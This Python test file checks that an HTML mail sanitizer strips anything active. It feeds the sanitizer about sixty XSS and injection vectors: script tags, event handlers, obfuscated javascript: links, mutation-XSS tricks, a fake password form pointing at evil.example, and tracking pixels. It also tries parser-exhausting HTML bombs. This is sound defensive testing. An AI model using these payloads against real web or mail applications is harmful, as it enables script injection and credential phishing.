"""HTML mail that is shown to a guide does nothing but show, and takes no time to make harmless."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envag.intake.mail_display import LONGEST_HTML, display

NAMES = (
    "a abbr b blockquote br center cite code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre q s small"
    " span strike strong sub sup table tbody td tfoot th thead tr tt u ul"
)
SHOWN = set(NAMES.split())
HARMLESS = {"href", "title", "alt", "src", "data-attachment", "colspan", "rowspan", "start", "rel", "target"}
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz4='>",
    "<img src='https://track.example/1.gif' width=1>",
    "<img src=//track.example/1.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1) background='https://evil.example/x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/relative' target=_self>x</a>",
    "<a href='https://x.example' onmouseover=alert(1)>x</a>",
    "<a href='https://x.example' rel=opener target=_top>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x</table>",
    "<form action='https://evil.example'><input name=pass type=password><button>Logga in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option>x</option></select><textarea>x</textarea>",
    "<video src='https://evil.example/x' autoplay onplay=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<p id=content name=cookie class=login>x</p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "\ue001script\ue002alert(1)\ue001/script\ue002",
    "&#xe001;script&#xe002;alert(1)&#xe001;/script&#xe002;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<img src='cid:\"onerror=alert(1) x=\"'>",
    "<img data-attachment='https://evil.example'>",
]


class Check(HTMLParser):
    """Fails on any element, attribute or address that could do something."""

    def __init__(self, known=()):
        super().__init__()
        self.known = set(known)
        self.names = []

    def handle_starttag(self, tag, attrs):
        self.names.append(tag)
        assert tag in SHOWN
        given_names = [name for name, _ in attrs]
        assert set(given_names) <= HARMLESS
        assert len(given_names) == len(set(given_names))
        values = dict(attrs)
        assert values.get("href", "https://").lower().startswith(("http://", "https://", "mailto:", "tel:"))
        assert values.get("src", "data:image/png;base64,").lower().startswith("data:image/")
        assert "svg" not in values.get("src", "").lower()[:20]
        assert values.get("data-attachment", "") in {"", *self.known}
        if tag == "a":
            assert values["target"] == "_blank"
            assert set(values["rel"].split()) == {"noopener", "nofollow", "noreferrer"}

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def checked(source, known=()):
    shown = display(source, lambda content_id: "003" if content_id in known else "")
    check = Check({"003"} if known else ())
    check.feed(shown)
    check.close()
    return shown, check.names


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_does_something_is_left(vector):
    checked(vector)
    checked(f"<table><tr><td>{vector}</td></tr></table>")
    checked(f"<a href='https://x.example'>{vector}")


@given(
    st.lists(
        st.one_of(
            st.sampled_from(VECTORS),
            st.sampled_from([piece for vector in VECTORS for piece in vector.replace(">", ">\0").split("\0")]),
            st.sampled_from(["<", ">", '"', "'", "<!--", "-->", "</", "/>", "&", "=", " ", "\0", "\ue000", "<table>"]),
            st.text(max_size=8),
        ),
        max_size=25,
    )
)
def test_no_soup_of_tags_does_something(pieces):
    checked("".join(pieces))


def test_a_letter_looks_as_it_was_written():
    shown, _ = checked(
        "<html><head><title>x</title><style>p{color:red}</style></head><body><h2>Ansökan</h2>"
        "<p class=MsoNormal>Hej &amp; <b>välkommen</b>&nbsp;&lt;hit&gt;<br></p><ul><li>ett</li><li>två</li></ul>"
        "<table><tr><th colspan=2>A</th></tr><tr><td>1</td><td>2</td></tr></table><blockquote>citat</blockquote></body>"
    )
    assert shown == (
        "<h2>Ansökan</h2><p>Hej &amp; <b>välkommen</b>&nbsp;&lt;hit&gt;<br></p><ul><li>ett</li><li>två</li></ul>"
        '<table><tbody><tr><th colspan="2">A</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>'
        "<blockquote>citat</blockquote>"
    )


def test_a_link_tells_nobody_where_it_was_followed():
    shown, _ = checked('<a href="https://boverket.example/?a=1&amp;b=2">Altan</a>')
    assert shown == (
        '<a href="https://boverket.example/?a=1&amp;b=2" target="_blank" rel="noopener nofollow noreferrer">Altan</a>'
    )


def test_a_picture_in_the_mail_is_found_by_its_content_id_and_one_elsewhere_is_not_asked_for():
    shown, _ = checked('<img src="cid:bild@x" alt="Gungan"><img src="https://t.example/1.gif" alt="Logga">', {"bild@x"})
    assert shown == '<img alt="Gungan" data-attachment="003"><img alt="Logga">'
    assert checked('<img src="cid:annan@x" alt="?">', {"bild@x"})[0] == '<img alt="?">'


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<blockquote>x" * 100_000,
        "<table><tr><td>" * 100_000,
        "".join(f"<a title={n} href=https://x.example/{n}>" for n in range(5_000)) + "<p>x" * 50_000,
        "<b><p></b>" * 100_000,
        "<" * LONGEST_HTML + ">",
        '<a "' * 200_000 + ">",
        "<!--" * 200_000 + ">",
        "&amp;" * 200_000,
        "&" * LONGEST_HTML,
        "\xa0" * LONGEST_HTML,
        "<p " + "a=b " * 200_000 + ">",
        "<table><b></table>x" * 50_000,
    ],
    ids=range(13),
)
def test_html_made_to_hurt_costs_little(bomb):
    start = time.process_time()
    shown = display(bomb)
    assert time.process_time() - start < 5
    assert len(shown) < 8 * LONGEST_HTML


def test_every_element_is_closed_where_the_mail_is_cut():
    _, names = checked("<p>" + "x" * LONGEST_HTML + "</p><b>later</b>")
    assert names == ["p"]
